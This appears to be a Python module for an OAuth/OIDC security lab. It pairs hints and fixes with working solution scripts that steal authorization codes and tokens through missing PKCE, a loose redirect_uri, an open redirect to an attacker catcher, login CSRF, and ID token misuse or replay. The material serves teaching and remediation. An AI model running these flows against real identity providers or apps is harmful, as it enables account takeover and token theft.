        "proves that the one redeeming a code is the one who asked for it?",
        "Authorization code interception (RFC 7636 §1; RFC 9700 §2.1.1, §4.5): start a flow for "
        "photo-spa without code_challenge (or with code_challenge_method=plain), let alice "
        "log in, then redeem the code from the callback as the interceptor: no "
        "code_verifier (or the challenge you saw in the URL).",
        "```python\n"
        + _LOGIN
        + """
query = alice_authorizes({"response_type": "code", "client_id": "photo-spa",
                          "redirect_uri": spa["redirect_uris"][0], "scope": "openid photos:read",
                          "state": secrets.token_urlsafe(8), "nonce": secrets.token_urlsafe(8)})
stolen = query["code"]  # what an interceptor on the redirect sees
answer = httpx.post(lab.url + "/token", data={"grant_type": "authorization_code", "code": stolen,
                    "client_id": "photo-spa", "redirect_uri": spa["redirect_uris"][0]})
print(answer.status_code, sorted(answer.json()))
flag_pkce = answer.json()["flag"]
lab.check_flag("pkce-missing", flag_pkce)
```""",
    ),
    "token-audience": (
        "A login hands photo-spa two JWTs signed by the same key. Which one is the photos "
        "API meant to take, and does it check?",
        "Token confusion (RFC 9068 §4, RFC 9700 §2.3): an access token for this API has "
        "typ at+jwt and aud photos-api; an ID token has typ JWT and aud = the client. Log "
        "in with code + PKCE and send the ID token to GET /photos as a bearer token.",
        "```python\n"
        + _PKCE_LOGIN
        + """\
tokens = httpx.post(lab.url + "/token", data={"grant_type": "authorization_code",
                    "code": query["code"], "client_id": "photo-spa",
                    "redirect_uri": spa["redirect_uris"][0], "code_verifier": verifier}).json()
answer = httpx.get(lab.net.api_url + "/photos",
                   headers={"Authorization": "Bearer " + tokens["id_token"]})
print(answer.status_code, answer.json()["owner"])
flag_audience = answer.json()["flag"]
lab.check_flag("token-audience", flag_audience)
```""",
    ),
    "scope-escalation": (
        "print-service is registered for photos:read only. What happens if it simply asks "
        "for more?",
        "Scope escalation (RFC 9700 §2.3, RFC 6749 §3.3): the granted scope must be "
        "registered ∩ requested ∩ consented. Ask the token endpoint for client credentials "
        "as print-service with scope 'photos:read photos:write' and read the granted scope.",
        """```python
import httpx
service = lab.net.clients["print-service"]
answer = httpx.post(lab.url + "/token", auth=(service["client_id"], service["client_secret"]),
                    data={"grant_type": "client_credentials", "scope": "photos:read photos:write"})
print(answer.status_code, answer.json().get("scope"))
flag_scope = answer.json()["flag"]
lab.check_flag("scope-escalation", flag_scope)
```""",
    ),
    "code-reuse": (
        "The client's token request timed out, so it sends the same code again. Should that "
        "work, and what becomes of the tokens of the first try?",
        "Code replay (RFC 6749 §4.1.2, RFC 9700 §4.2.4): a code is single use; a second "
        "use must fail and should (when possible) revoke what the first issued. Do one "
        "code + PKCE login as photo-spa and post the same token request twice.",
        "```python\n"
        + _PKCE_LOGIN
        + """\
request = {"grant_type": "authorization_code", "code": query["code"], "client_id": "photo-spa",
           "redirect_uri": spa["redirect_uris"][0], "code_verifier": verifier}
first = httpx.post(lab.url + "/token", data=request)
again = httpx.post(lab.url + "/token", data=request)
print(first.status_code, again.status_code)
flag_reuse = again.json()["flag"]
lab.check_flag("code-reuse", flag_reuse)
```""",
    ),
}


_SPA = """import base64, hashlib, secrets, httpx
from urllib.parse import parse_qs, urlencode, urlsplit

shop = lab.net.client_url
registered = lab.net.clients["photo-spa"]["redirect_uris"][0]

def authorize_url(redirect_uri, **extra):
    query = {"response_type": "code", "client_id": "photo-spa", "redirect_uri": redirect_uri,
             "scope": "openid photos:read", "state": secrets.token_urlsafe(8),
             "nonce": secrets.token_urlsafe(8), **extra}
    return lab.net.issuer + "/authorize?" + urlencode(query)

def pkce():
    verifier = secrets.token_urlsafe(48)
    digest = hashlib.sha256(verifier.encode()).digest()
    challenge = base64.urlsafe_b64encode(digest).rstrip(b"=").decode()
    return verifier, {"code_challenge": challenge, "code_challenge_method": "S256"}

def redeem(code, redirect_uri, verifier):
    return httpx.post(lab.net.issuer + "/token", data={
        "grant_type": "authorization_code", "code": code, "client_id": "photo-spa",
        "redirect_uri": redirect_uri, "code_verifier": verifier})
"""

HINTS.update(
    {
        "redirect-uri": (
            "The authorization server sends bob's code wherever the redirect_uri says, as "
            "long as it *starts* like the registered one. Is every page on PrintShop's "
            "origin a safe place for it?",
            "Redirect URI manipulation (RFC 9700 §4.1, §2.1: exact string matching): make a "
            "PrintShop share link (POST /share) to your catcher, send bob a photo-spa "
            "authorize link whose redirect_uri walks from the registered callback to it "
            "(registered + '/../../s/...'), with your own S256 challenge; redeem the code "
            "the catcher gets.",
            "```python\n"
            + _SPA
            + """catcher = lab.net.catcher()
link = httpx.post(shop + "/share", data={"url": catcher.url + "/steal"}).json()["link"]
evil = registered + "/../.." + link
verifier, challenge = pkce()
lab.net.victim.visit(authorize_url(evil, **challenge))
print(lab.net.victim.flow())
answer = redeem(catcher.values("code")[-1], evil, verifier)
flag_redirect = answer.json()["flag"]
lab.check_flag("redirect-uri", flag_redirect)
```""",
        ),
        "open-redirect": (
            "PrintShop's 'continue shopping' link, /next?url=, goes anywhere and keeps the "
            "query; a browser keeps a URL's fragment across a redirect. What if the "
            "authorization server sends bob's token there?",
            "Open redirect chained with a loose redirect_uri (RFC 9700 §4.11.1, §4.1; "
            "PortSwigger 'stealing OAuth access tokens via an open redirect'): send bob a "
            "response_type=token link whose redirect_uri is registered + "
            "'/../../next?url=<your catcher>'. The token rides in the fragment; the "
            "catcher's page posts it back to you.",
            "```python\n"
            + _SPA
            + """catcher = lab.net.catcher()
evil = registered + "/../../next?" + urlencode({"url": catcher.url + "/steal"})
lab.net.victim.visit(authorize_url(evil, response_type="token", scope="photos:read"))
print(lab.net.victim.flow())
stolen = catcher.values("access_token")[-1]
auth = {"Authorization": "Bearer " + stolen}
print(httpx.get(lab.net.api_url + "/photos", headers=auth).json())
flag_open = catcher.values("flag")[-1]
lab.check_flag("open-redirect", flag_open)
```""",
        ),
        "login-csrf": (
            "PrintShop's callback finishes whichever sign-in its link names. Does it check "
            "that this browser is the one that started it?",
            "Login CSRF / forced account linking (RFC 9700 §4.7, RFC 6749 §10.12): as "
            "alice, start 'link your photo account' at PrintShop and stop before the "
            "callback (browser.get(..., stop_before=callback)); send that callback link to "
            "bob, who is signed in at PrintShop.",
            """```python
shop = lab.net.client_url
attacker = lab.net.browser("alice")
attacker.get(shop + "/login")
attacker.get(shop + "/link", stop_before=shop + "/shop/callback")
print(attacker.flow())
lab.net.victim.sign_in_at_shop()
lab.net.victim.visit(attacker.url)  # bob opens the link
seen = lab.net.victim.visit(shop + "/prints").json()
print(seen["shop_user"], "->", seen["photo_account"])
flag_csrf = seen["flag"]
lab.check_flag("login-csrf", flag_csrf)
```""",
        ),
        "implicit-flow": (
            "The old single-page app posts its token to /spa/session, and something more. "
            "Which of the two does PrintShop believe about who you are?",
            "Authentication bypass via the implicit flow (RFC 9700 §2.1.2; PortSwigger "
            "'authentication bypass via OAuth implicit flow'): get your own photo-spa "
            "access token (response_type=token puts it in the fragment) and post it to "
            "PrintShop's /spa/session with sub=bob.",
            "```python\n"
            + _SPA
            + """me = lab.net.browser("alice")
me.get(authorize_url(registered, response_type="token"), stop_before=registered)
print(me.url)  # the token is in the fragment
token = parse_qs(urlsplit(me.url).fragment)["access_token"][0]
with httpx.Client(base_url=shop) as b:
    b.post("/spa/session", data={"access_token": token, "sub": "bob"})
    seen = b.get("/prints").json()
print(seen["shop_user"])
flag_implicit = seen["flag"]
lab.check_flag("implicit-flow", flag_implicit)
```""",
        ),
        "nonce": (
            "PrintShop's old app signs you in with an ID token it posts. The token's "
            "signature, issuer, audience and expiry hold for any of bob's logins: what "
            "ties it to *this* sign-in?",
            "ID token replay (OIDC Core §3.1.3.7 step 11, RFC 9700 §4.5.3.2): take an ID "
            "token from another of bob's flows (here his own login on a browser of his, "
            "as if captured) and post it to /spa/session from your browser, after asking "
            "/spa/nonce for a nonce of your own (or without).",
            "```python\n"
            + _SPA
            + """bob = lab.net.browser("bob")
verifier, challenge = pkce()
bob.get(authorize_url(registered, **challenge), stop_before=registered)
code = parse_qs(urlsplit(bob.url).query)["code"][0]
captured = redeem(code, registered, verifier).json()["id_token"]
with httpx.Client(base_url=shop) as b:
    b.get("/spa/nonce")
    b.post("/spa/session", data={"id_token": captured})
    seen = b.get("/prints").json()
print(seen["shop_user"])
flag_nonce = seen["flag"]
lab.check_flag("nonce", flag_nonce)
```""",
        ),
    }
)


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "pkce-missing",
        "photo-spa's code, issued without code_challenge (then with plain), redeemed by "
        "whoever intercepted it",
        HINTS["pkce-missing"],
        run_pkce_missing,
        fix="check_pkce let an authorization request through without S256 PKCE. Refuse a "
        "missing code_challenge (every client: RFC 9700 §2.1.1 makes it a MUST for public "
        "clients, ASVS 5.0 V10.4.6 asks it of all) and any method but S256: "
        "plain puts the verifier in the URL.",
    ),
    Attack(
        "token-audience",
        "GET /photos with alice's ID token, an access token for another API, and an ID "
        "token whose aud also lists photos-api",
        HINTS["token-audience"],
        run_token_audience,
        fix="validate_access_token took a token that is not an access token for this API. "
        "Require typ at+jwt (jwt.get_unverified_header), audience=lab.net.audience and "
        "issuer=lab.net.issuer in jwt.decode (RFC 9068 §4), algorithms=['RS256'] (the lab's "
        "allowlist, RFC 8725 §3.1) and the route's scope (RFC 9700 §2.3).",
    ),
    Attack(
        "scope-escalation",
        "print-service asks for photos:write it is not registered for; photo-spa gets "
        "photos:write after alice unticked it",
        HINTS["scope-escalation"],
        run_scope_escalation,
        fix="allowed_scope granted more than registered ∩ requested ∩ consented. Keep the "
        "requested scopes that are registered and, once consented is not None, consented "
        "too (RFC 9700 §2.3).",
        expected="no scope beyond registered ∩ requested ∩ consented",
    ),
    Attack(
        "code-reuse",
        "one code + PKCE login's code redeemed twice; are the first tokens still active?",
        HINTS["code-reuse"],
        run_code_reuse,
        fix="code_single_use let an already used code be redeemed again. Return False when "
        "already_used (RFC 6749 §4.1.2); the server then revokes the first tokens.",
    ),
    Attack(
        "redirect-uri",
        "bob opens a photo-spa link whose redirect_uri walks from the callback to a "
        "PrintShop share link to the attacker; the caught code is redeemed",
        HINTS["redirect-uri"],
        run_redirect_uri,
        fix="check_redirect_uri let a redirect_uri through that is not one registered. "
        "Compare the whole string for equality with a registered URI (RFC 9700 §2.1): no "
        "prefix, no sub-path, no same-origin rule.",
    ),
    Attack(
        "open-redirect",
        "bob's token (implicit) or code sent through PrintShop's /next?url= to the attacker",
        HINTS["open-redirect"],
        run_open_redirect,
        fix="allow_next let /next send the browser off PrintShop, and clients MUST NOT "
        "expose open redirectors (RFC 9700 §4.11.1). This lab's allowlist: a local path "
        "only, one leading slash, not '//' nor a backslash, no scheme or userinfo.",
    ),
    Attack(
        "login-csrf",
        "alice's 'link your photo account' callback link, opened by bob at PrintShop",
        HINTS["login-csrf"],
        run_login_csrf,
        fix="check_state accepted a callback this browser did not start. Require both "
        "values and compare them (secrets.compare_digest); a session with no flow "
        "(expected None) accepts none (RFC 9700 §4.7).",
    ),
    Attack(
        "implicit-flow",
        "alice posts her own token to PrintShop's /spa/session with sub=bob",
        HINTS["implicit-flow"],
        run_implicit_flow,
        fix="implicit_user believed the user the page posted. Sign in the token's owner as "
        "the authorization server's /userinfo names it, or nobody (OIDC Core §5.3: the "
        "UserInfo response's sub is the user; a page's word is not).",
        expected="signed in as the token's owner (alice), or refused",
    ),
    Attack(
        "nonce",
        "bob's ID token from his own sign-in replayed into another browser's sign-in",
        HINTS["nonce"],
        run_nonce,
        fix="validate_id_token took an ID token minted for another flow. Require the flow's "
        "nonce and equality with the token's (OIDC Core §3.1.3.7 step 11); a flow with no "
        "nonce (None) accepts none, this lab's stricter rule.",
    ),
    Attack(
        "implicit-token",
        "alice's browser asks for photo-spa's response_type=token (still in its registration)",
        (
            "The implicit flow puts the access token in the URL (RFC 9700 §2.1.2; ASVS 5.0 "
            "V10.4.4).",
        ),
        run_implicit_token,
        fix="check_response_type allowed response_type=token because the registration lists "
        "it. Allow only code, and only if registered: clients SHOULD NOT use the implicit "
        "grant (RFC 9700 §2.1.2) and ASVS 5.0 V10.4.4 says 'token' must no longer be used.",
        flag=False,
        expected="an error redirect, no token in the URL",
    ),
    Attack(
        "password-grant",
        "photo-spa posts alice's username and password to /token (grant_type=password)",
        (
            "The client sees the user's password (RFC 9700 §2.4: MUST NOT be used; ASVS 5.0 "
            "V10.4.4).",
        ),
        run_password_grant,
        fix="check_grant_type allowed grant_type=password because the registration lists it. "
        "Refuse the password grant whatever a registration says (RFC 9700 §2.4: MUST NOT be "
        "used; ASVS 5.0 V10.4.4), keep the registered others.",
        flag=False,
    ),
    Attack(
        "id-token-audience",
        "bob's ID token from another app of the same AS (aud quiz-app), with PrintShop's "
        "nonce, posted to PrintShop's /spa/session",
        ("An ID token is for the client its aud names (OIDC Core §3.1.3.7 step 3).",),
        run_id_token_audience,
        fix="validate_id_token took an ID token minted for another client. Require iss to "
        "be lab.net.issuer, aud to name client_id and no audience you do not trust (here: "
        "none other) (OIDC Core §3.1.3.7 steps 2-3), and azp, if present, to be client_id "
        "(steps 4-5).",
        flag=False,
    ),
)

CHECKS: tuple[Check, ...] = (
    Check(
        "login",
        "photo-spa: code + PKCE S256 login, an access token and an ID token",
        check_login,
        hint="alice's ordinary login must still work: S256 PKCE, the exact redirect_uri, "
        "response_type code, and the registered scopes she consents to.",
    ),
    Check(
        "consent",
        "alice unticks profile: she still logs in with what she allowed",
        check_consent,
        hint="allowed_scope must keep what is registered, requested and consented: a user "
        "who unticks one box still logs in with the others.",
    ),
    Check("refresh", "photo-spa refreshes its token and calls the API", check_refresh),
    Check(
        "client-credentials",
        "print-service gets a photos:read token and calls GET /photos",
        check_client_credentials,
    ),
    Check(
        "api-scope",
        "a photos:read photos:write access token on GET and POST /photos",
        check_api_scope,
        hint="validate_access_token must accept a genuine access token for this API whose "
        "scope holds the route's (and whose aud may be a list).",
    ),
    Check(
        "shop-login",
        "alice signs in at PrintShop (code + state + nonce + PKCE) and sees her prints",
        check_shop_login,
        hint="PrintShop's own sign-in must still work: check_state equal and present, "
        "validate_id_token with the flow's nonce, the exact registered callback.",
    ),
    Check(
        "shop-link",
        "alice links her photo account at PrintShop with a proper state",
        check_shop_link,
    ),
    Check(
        "logout",
        "alice signs out of PrintShop: the session ends and the shop's tokens are revoked",
        check_logout,
    ),
    Check(
        "spa-id-token",
        "the old app signs alice in with an ID token carrying PrintShop's nonce",
        check_spa_id_token,
        hint="validate_id_token must accept an ID token whose nonce is the flow's.",
    ),
    Check(
        "spa-token",
        "the old app posts alice's own token: she is signed in as herself",
        check_spa_token,
        hint="implicit_user must sign in the user /userinfo names for the posted token.",
    ),
)
